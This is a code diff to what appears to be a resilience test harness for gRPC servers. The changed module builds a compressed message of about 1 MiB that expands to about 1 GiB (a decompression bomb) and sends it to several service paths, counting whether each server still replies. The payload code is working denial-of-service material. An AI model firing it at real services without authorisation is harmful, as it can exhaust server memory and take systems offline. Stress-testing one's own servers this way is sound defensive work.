@@ -6,19 +6,19 @@ import zlib
 from functools import cache
 
 from http2 import DETECT, HEALTH, REFLECTION, STREAM, message
-from target import Tally, Target, attack, rounds
+from target import PATIENCE, Tally, Target, attack, rounds
 
 PATHS = (HEALTH, DETECT, STREAM, REFLECTION)
 
 
 @cache
-def _bomb(encoding: str) -> bytes:
+def bomb(encoding: str) -> bytes:
     """1 MiB that is 1 GiB of zeros; only the sum at its end is wrong."""
     packer = zlib.compressobj(9, wbits=zlib.MAX_WBITS | (16 if encoding == "gzip" else 0))
-    zeros = bytes(16 << 20)
+    zeros = bytes(1 << 20)
     first = packer.compress(zeros) + packer.flush(zlib.Z_FULL_FLUSH)
     again = packer.compress(zeros) + packer.flush(zlib.Z_FULL_FLUSH)
-    return message(first + 63 * again + packer.flush(), compressed=True)
+    return message(first + 1023 * again + packer.flush(), compressed=True)
 
 
 def _explode(target: Target, encoding: str) -> Tally:
@@ -26,7 +26,7 @@ def _explode(target: Target, encoding: str) -> Tally:
     for survived in rounds(target, tally):
         for path in PATHS:
             with survived, target.connect() as connection:
-                said = connection.ask(path, _bomb(encoding), 2.0, ("grpc-encoding", encoding))
+                said = connection.ask(path, bomb(encoding), PATIENCE, ("grpc-encoding", encoding))
                 tally["answered"] += b"grpc-status" in said
     return tally
 
